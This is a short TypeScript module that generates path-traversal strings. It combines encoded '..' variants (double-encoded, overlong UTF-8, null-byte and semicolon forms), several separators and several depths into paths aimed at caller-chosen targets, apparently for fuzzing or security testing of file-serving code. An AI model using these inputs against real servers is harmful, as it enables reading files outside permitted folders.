/** What a step up has been written as, for servers that decode twice, late, or not at all. */
const steps = [
  '..',
  '%2e%2e',
  '.%2e',
  '%252e%252e',
  '%c0%ae%c0%ae',
  '..;',
  '....',
  '%uff0e%uff0e',
  '..%00',
  '%2e%2e%20',
];
const separators = ['/', '%2f', '\\', '%5c', '%252f', '%c0%af', '//'];
const depths = [1, 2, 3, 9];

/** @returns ways out of a folder to each of the targets: every step × separator × depth */
export function makeTraversals(...targets: string[]): string[] {
  return steps.flatMap((step) =>
    separators.flatMap((separator) =>
      depths.flatMap((depth) =>
        targets.map((target) => (step + separator).repeat(depth) + target.replaceAll('/', separator)),
      ),
    ),
  );
}
